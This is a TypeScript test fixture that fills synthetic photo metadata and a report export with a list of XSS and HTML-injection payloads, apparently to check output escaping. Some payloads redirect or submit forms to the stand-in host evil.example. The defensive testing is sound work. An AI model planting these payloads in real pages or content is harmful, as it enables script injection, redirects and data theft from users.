import { openAuditor } from '../../../electron/auditor/auditor'
import { makeReport } from '../../../electron/main/export/make-report'
import type { Report } from '../../../electron/main/export/make-report'
import type { PackId } from '../../../shared/domain/item/ids'
import { instant } from '../../../shared/domain/item/instant'
import { fill, now, optionsIn } from '../../auditor/fill-auditor'
import { syntheticRoll } from '../../fixtures/synthetic-roll'
import type { SyntheticPhoto } from '../../fixtures/synthetic-roll'

/** What strangers write into names and tags, hoping that somebody shows it. */
export const payloads = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</style><script>alert(1)</script>',
  '</title><iframe src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input>',
  '--><script>alert(1)</script><!--',
  '${alert(1)}{{7*7}}',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u202egpj.<script>\u0000\ufeff',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
]

/** A real audit of photos whose names, cameras and software are the payloads, exported. */
export async function hostileReport(): Promise<Report> {
  const auditor = openAuditor(optionsIn(null))
  try {
    const { client } = auditor
    await client.choosePolicy({ policy: 'meta-facebook/2025-06-test' as PackId, region: 'US-NY' })
    await client.setAsOf({ asOf: now })
    const at = instant(Date.parse('2025-01-20T12:00:00Z'))
    await client.setConsent({ consent: { known: 'events', events: [{ switch: 'cloud', state: 'on', at }] } })
    await fill(auditor, syntheticRoll(payloads.length * 2).map(hostile))
    await client.revoke({ what: { folder: payloads[1] ?? '' } })
    await client.revoke({ what: { kind: payloads[0] ?? '' } })
    const tool = { version: payloads[3] ?? '', analysis: 'full', models: [] } as const
    const assumptions = payloads.map((text) => ({ what: text, value: text, why: text }))
    const options = {
      verifier: Buffer.from('// verifier'),
      shown: new Set<string>(),
      handedOver: 'bundle' as const,
    }
    return await makeReport(client, { selected: null, tool, assumptions }, options)
  } finally {
    auditor.close()
  }
}

function hostile({ sighting, analysed }: SyntheticPhoto, at: number): SyntheticPhoto {
  const text = payloads[at % payloads.length] ?? ''
  const camera = { make: text, model: text, serial: text, lens: text, owner: text, software: text }
  const { metadata } = analysed.facts
  const problem = at % 3 === 0 ? ({ code: 'corrupt', sentence: text } as const) : null
  const facts = {
    ...analysed.facts,
    problem,
    metadata: { ...metadata, camera, captions: [text], albums: [text] },
  }
  return {
    sighting: { ...sighting, path: `${text.replaceAll('\u0000', '')}/${at} ${text}.jpg` },
    analysed: { ...analysed, facts },
  }
}
